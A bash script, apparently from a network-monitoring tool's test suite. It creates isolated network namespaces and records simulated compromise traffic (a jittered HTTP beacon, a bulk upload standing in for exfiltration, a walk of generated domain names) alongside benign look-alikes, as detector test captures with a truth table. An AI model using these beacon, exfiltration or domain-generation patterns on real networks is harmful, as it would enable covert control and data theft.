#!/usr/bin/env bash
# tests/corpus/make-compromised.sh - captures of a compromised terminal
# (a beacon, a large upload) and of benign look-alikes (NTP to a pool, an
# hourly update check, a video stream, a backup upload), made with real
# connections in network namespaces this script creates, then retimed and
# readdressed offline.
#
# Network safety: two namespaces (vg-c2t: the terminal, 10.98.0.1; vg-c2s:
# the servers, 10.98.0.2 and the other 10.98.0.x below) joined by one veth
# pair. Clients target only addresses this script gave vg-c2s; nothing
# leaves the namespaces. Every client loop has a fixed count and a timeout;
# the namespaces and servers are removed when the script ends, even on
# error.
#
# Connections run as fast as they can (seconds); tests/corpus/retime.py
# then rewrites the record times offline so that connection i starts at
# i x interval + jitter (seeded) - hours of simulated time - and
# tcprewrite gives the terminal a home address (192.168.50.20) and each
# server a public one. Beacon-like captures use tcpdump -s 96 (headers
# only: small files, with the sizes vigil counts as a capture of that snap
# length would show); upload captures keep whole packets, as vigil counts
# captured bytes.
#
# Output: tests/corpus/captures/c2-<scenario>.pcap and C2-TRUTH.tsv. Run as
# root. Usage: make-compromised.sh [SCENARIO...] (default: all).
set -euo pipefail
cd "$(dirname "$0")"
out=captures
work=$(mktemp -d)
T=10.98.0.1 S=10.98.0.2 TERM_HOME=192.168.50.20
START=1795000000 # 2026-11-18T11:06:40Z: the simulated time starts here
only=("$@")

. ./lib.sh
install_missing tcpdump tcpreplay curl iproute2 ethtool

cleanup() {
  set +e
  kill_pids "$work"
  ip netns del vg-c2t 2>/dev/null
  ip netns del vg-c2s 2>/dev/null
  rm -rf "$work"
}
trap cleanup EXIT
ip netns del vg-c2t 2>/dev/null || true
ip netns del vg-c2s 2>/dev/null || true

ip netns add vg-c2t
ip netns add vg-c2s
ip link add vg-c2a type veth peer name vg-c2b
ip link set vg-c2a netns vg-c2t
ip link set vg-c2b netns vg-c2s
ip -n vg-c2t addr add $T/24 dev vg-c2a
ip -n vg-c2s addr add $S/24 dev vg-c2b
# NTP pool members (.11-.14), upload destinations (.21-.25 baseline, .30
# receiver, .40 backup host), a DNS resolver (.53).
for a in 11 12 13 14 21 22 23 24 25 30 40 53; do ip -n vg-c2s addr add 10.98.0.$a/32 dev vg-c2b; done
for ns in vg-c2t vg-c2s; do ip -n $ns link set lo up; done
ip -n vg-c2t link set vg-c2a up
ip -n vg-c2s link set vg-c2b up
ip netns exec vg-c2t ethtool -K vg-c2a tso off gso off gro off 2>/dev/null || true
ip netns exec vg-c2s ethtool -K vg-c2b tso off gso off gro off 2>/dev/null || true

# Servers (stdlib Python): HTTP on :80 (GET /checkin: 64 bytes, /update:
# 300 bytes, /video: 2 MB; POST: reads the body, answers "ok"), NTP on
# :123 (a 48-byte mode 4 answer to each 48-byte request).
cat >"$work/httpd.py" <<'PY'
import http.server, socketserver
BODY = {"/checkin": b"c" * 64, "/update": b"u" * 300, "/video": b"v" * 2000000}
class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_GET(self):
        b = BODY.get(self.path, b"")
        self.send_response(200 if b else 404); self.send_header("Content-Length", str(len(b))); self.end_headers()
        self.wfile.write(b)
    def do_POST(self):
        n = int(self.headers.get("Content-Length", "0"))
        while n > 0:
            n -= len(self.rfile.read(min(n, 65536)))
        self.send_response(200); self.send_header("Content-Length", "2"); self.end_headers(); self.wfile.write(b"ok")
socketserver.TCPServer.allow_reuse_address = True
http.server.ThreadingHTTPServer(("0.0.0.0", 80), H).serve_forever()
PY
cat >"$work/ntpd.py" <<'PY'
import select, socket, struct, time
socks = []
for a in ["10.98.0.11", "10.98.0.12", "10.98.0.13", "10.98.0.14"]:  # each answers from its own address
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((a, 123)); socks.append(s)
while True:
    for s in select.select(socks, [], [])[0]:
        d, peer = s.recvfrom(512)
        if len(d) == 48:
            s.sendto(bytes([0x24, 2, 6, 0xe9]) + b"\0" * 8 + b"GPS\0" + d[40:48] * 3 + struct.pack(">II", int(time.time()) + 2208988800, 0), peer)
PY
# ntp-client.py COUNT: COUNT requests, round robin over the pool, each from
# its own port (a new flow), as SNTP clients do.
cat >"$work/ntpc.py" <<'PY'
import socket, sys
pool = ["10.98.0.11", "10.98.0.12", "10.98.0.13", "10.98.0.14"]
for i in range(int(sys.argv[1])):
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.bind(("10.98.0.1", 20000 + i)); c.settimeout(1)
    c.sendto(bytes([0x23]) + b"\0" * 39 + i.to_bytes(8, "big"), (pool[i % 4], 123))
    try: c.recvfrom(512)
    except socket.timeout: pass
    c.close()
PY
# A resolver on 10.98.0.53:53: an address (10.98.0.66) for the names in
# its list, NXDOMAIN for any other. The generated domain its owner
# registered gets the controller's public address (the beacon's server
# as rewritten, 194.87.10.20): bytes of the answer only, nothing is sent
# to it.
cat >"$work/dnsd.py" <<'PY'
import socket, struct
KNOWN = {"www.example-shop.com", "mail.example.org", "cdn.example.net", "news.example.com",
         "api.example-weather.com", "static.example-cdn.net", "login.example-bank.com",
         "vbnqxzkwprtmhd.com"}  # the last: the generated domain its owner registered
ADDR = {"vbnqxzkwprtmhd.com": "194.87.10.20"}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("10.98.0.53", 53))
while True:
    q, peer = s.recvfrom(512)
    if len(q) < 17: continue
    i, labels = 12, []
    while q[i]:
        labels.append(q[i + 1:i + 1 + q[i]].decode()); i += 1 + q[i]
    question = q[12:i + 5]
    name = ".".join(labels).lower()
    if name in KNOWN:
        s.sendto(q[:2] + b"\x81\x80\0\x01\0\x01\0\0\0\0" + question +
                 b"\xc0\x0c\0\x01\0\x01\0\0\x01\x2c\0\x04" + socket.inet_aton(ADDR.get(name, "10.98.0.66")), peer)
    else:
        s.sendto(q[:2] + b"\x81\x83\0\x01\0\0\0\0\0\0" + question, peer)
PY
# dnsq.py NAME...: one A query for each name, each from its own port,
# waiting for the answer (1 s at most).
cat >"$work/dnsq.py" <<'PY'
import socket, struct, sys, time
for n, name in enumerate(sys.argv[1:]):
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.bind(("10.98.0.1", 40000 + n)); c.settimeout(1)
    q = struct.pack(">HHHHHH", 0x1000 + n, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\x01\0\x01"
    c.sendto(q, ("10.98.0.53", 53))
    try: c.recvfrom(512)
    except socket.timeout: pass
    c.close(); time.sleep(0.05)
PY
ip netns exec vg-c2s python3 "$work/dnsd.py" & echo $! >"$work/dnsd.pid"
ip netns exec vg-c2s python3 "$work/httpd.py" & echo $! >"$work/httpd.pid"
ip netns exec vg-c2s python3 "$work/ntpd.py" & echo $! >"$work/ntpd.pid"
sleep 1
head -c 300000 /dev/urandom >"$work/upload.bin"
head -c 2000 /dev/urandom >"$work/small.bin"

# Public addresses (offline only): the C&C server, the update server, the
# video server, the NTP pool, the upload receiver, the backup host, and the
# five destinations of the terminal's ordinary small uploads.
PNAT="$T/32:$TERM_HOME/32,$S/32:194.87.10.20/32,10.98.0.11/32:81.2.69.141/32,10.98.0.12/32:81.2.69.142/32"
PNAT+=",10.98.0.13/32:81.2.69.143/32,10.98.0.14/32:81.2.69.144/32,10.98.0.30/32:5.188.10.30/32"
PNAT+=",10.98.0.40/32:81.2.69.160/32,10.98.0.21/32:81.2.69.121/32,10.98.0.22/32:81.2.69.122/32"
PNAT+=",10.98.0.23/32:81.2.69.123/32,10.98.0.24/32:81.2.69.124/32,10.98.0.25/32:81.2.69.125/32"
PNAT+=",10.98.0.53/32:81.2.69.53/32"

tsv=$out/C2-TRUTH.tsv
if ! ((${#only[@]})) || [ ! -f "$tsv" ]; then
  printf 'scenario\tfile\tkind\tsrc\tdest\tport\tattempts\tsettings\tnote\n' >"$tsv.new"
else
  awk -F'\t' -v only=" ${only[*]} " 'NR == 1 || index(only, " " $1 " ") == 0' "$tsv" >"$tsv.new"
fi

# scenario NAME SNAPLEN "RETIME ARGS" KIND SRC PORT ATTEMPTS SETTINGS NOTE -- CMD...
# Runs CMD in the terminal namespace while tcpdump records its side, then
# retimes and readdresses the capture; SETTINGS are the --set arguments the
# test passes (- none), KIND none for a look-alike that must give nothing.
scenario() {
  local name=$1 snap=$2 retime=$3 kind=$4 src=$5 port=$6 attempts=$7 settings=$8 note=$9
  shift 10
  if ((${#only[@]})) && [[ " ${only[*]} " != *" $name "* ]]; then return; fi
  ip netns exec vg-c2t tcpdump -n -i vg-c2a -s "$snap" -U -w "$work/$name.raw.pcap" -c 100000 ip >/dev/null 2>&1 &
  local tp=$!
  sleep 0.5
  timeout 300 ip netns exec vg-c2t "$@" >"$work/$name.log" 2>&1 || true
  sleep 1
  kill $tp 2>/dev/null
  wait $tp 2>/dev/null || true
  # shellcheck disable=SC2086
  python3 retime.py "$work/$name.raw.pcap" "$work/$name.timed.pcap" --start $START $retime
  tcprewrite --pnat="$PNAT" --infile="$work/$name.timed.pcap" --outfile="$out/c2-$name.pcap" --fixcsum
  printf '%s\tc2-%s.pcap\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$name" "$name" "$kind" "$src" "$TERM_HOME" "$port" \
    "$attempts" "$settings" "$note" >>"$tsv.new"
  echo "captured c2-$name: $(stat -c %s "$out/c2-$name.pcap") bytes" >&2
}

# The beacon: 200 check-ins (HTTP GET, each a new connection from its own
# port), one every 30 s with up to 3 s of jitter: 100 minutes.
scenario beacon-30s 96 "--every 30 --jitter 3 --seed 1" malware.beacon 194.87.10.20 80 200 - \
  "200 HTTP check-ins every 30 s +-3 s" -- \
  sh -c "for i in \$(seq 1 200); do curl -s -m 5 --local-port \$((30000 + i)) -o /dev/null http://$S/checkin; done"
# NTP: 160 queries every 64 s, round robin over a pool of 4: each server
# sees one every 256 s for 2.8 hours. Allowed by default (123/udp).
scenario ntp-pool 96 "--every 64 --jitter 0.5 --seed 2" none - 123 160 - \
  "SNTP every 64 s to a pool of 4 (each every 256 s); detect.beacon.allow_ports has 123/udp" -- \
  python3 "$work/ntpc.py" 160
# An update check every hour for 12 hours: regular, so the update server
# is allow-listed (detect.beacon.allow), as a site lists its update hosts.
scenario update-hourly 96 "--every 3600 --jitter 60 --seed 3" none 194.87.10.20 80 12 detect.beacon.allow=194.87.10.20 \
  "an update check every hour for 12 hours; the update server is in detect.beacon.allow" -- \
  sh -c "for i in \$(seq 1 12); do curl -s -m 5 --local-port \$((31000 + i)) -o /dev/null http://$S/update; done"
# A video stream: one 2 MB download stretched over about 20 minutes.
scenario video-stream 96 "--every 1 --stretch 600 --seed 4" none 194.87.10.20 80 1 - \
  "one long download (2 MB, 20 minutes)" -- \
  curl -s -m 30 --limit-rate 1M -o /dev/null http://$S/video
# Exfiltration: five ordinary 2 kB uploads to five servers five minutes
# apart (the terminal's baseline), then 300 kB to one receiver 2 hours
# later. Whole packets: vigil counts captured bytes. The test lowers
# detect.exfil.bytes to 200K so a small committed capture can show it.
scenario exfil-upload 65535 "--at 0,300,600,900,1200,7200 --seed 5" exfil.volume 5.188.10.30 80 1 detect.exfil.bytes=200K \
  "five 2 kB uploads to five servers (baseline), then 300 kB to one receiver" -- \
  sh -c "for a in 21 22 23 24 25; do curl -s -m 5 --data-binary @$work/small.bin -o /dev/null http://10.98.0.\$a/; done; curl -s -m 20 --data-binary @$work/upload.bin -o /dev/null http://10.98.0.30/"
# A backup: 300 kB to the backup host, which the site allow-lists.
scenario backup-upload 65535 "--every 60 --seed 6" none 81.2.69.160 80 1 "detect.exfil.bytes=200K detect.exfil.allow=81.2.69.160" \
  "300 kB to the backup host, in detect.exfil.allow" -- \
  curl -s -m 20 --data-binary @"$work/upload.bin" -o /dev/null http://10.98.0.40/

mv "$tsv.new" "$tsv"

# Domain generation (malware.dga; not in C2-TRUTH.tsv: tests/compromised.sh
# checks them on their own). dnsq.py asks the resolver; no retiming (a
# walk takes seconds).
# dns NAME NOTE -- NAMES...: the lookups, captured as c2-NAME.pcap.
dns() {
  local name=$1
  shift 3
  if ((${#only[@]})) && [[ " ${only[*]} " != *" $name "* ]]; then return; fi
  ip netns exec vg-c2t tcpdump -n -i vg-c2a -s 512 -U -w "$work/$name.raw.pcap" -c 10000 udp port 53 >/dev/null 2>&1 &
  local tp=$!
  sleep 0.5
  timeout 120 ip netns exec vg-c2t python3 "$work/dnsq.py" "$@" >"$work/$name.log" 2>&1 || true
  sleep 1
  kill $tp 2>/dev/null
  wait $tp 2>/dev/null || true
  tcprewrite --pnat="$PNAT" --infile="$work/$name.raw.pcap" --outfile="$out/c2-$name.pcap" --fixcsum
  echo "captured c2-$name: $(stat -c %s "$out/c2-$name.pcap") bytes" >&2
}
# A walk of 40 generated names (seeded: 10 to 16 random letters, one of
# five top-level domains), all NXDOMAIN, then the one registered.
mapfile -t gen < <(python3 -c '
import random
r = random.Random(7)
for i in range(40):
    print("".join(r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(r.randint(10, 16))) + "." + r.choice(["com", "net", "org", "info", "biz"]))')
dns dga-walk "40 generated names answered NXDOMAIN, then the registered one" -- "${gen[@]}" vbnqxzkwprtmhd.com
# A person browsing: 7 names that exist, each twice, 6 typos, a
# browser's 3 start-up probes (random single labels), internal names.
dns dga-benign "browsing with typos, a browser's hijack probes, internal names" -- \
  www.example-shop.com mail.example.org cdn.example.net news.example.com api.example-weather.com \
  static.example-cdn.net login.example-bank.com www.example-shop.com mail.example.org cdn.example.net \
  news.example.com api.example-weather.com static.example-cdn.net login.example-bank.com \
  gooogle.com exmaple.com wikipedai.org faceboook.com yotube.com amazn.com \
  qhxkzvbnwe fjrkwmzpqt lxvbnqwzkr printer.home.arpa wpad.home.arpa nas.home.arpa
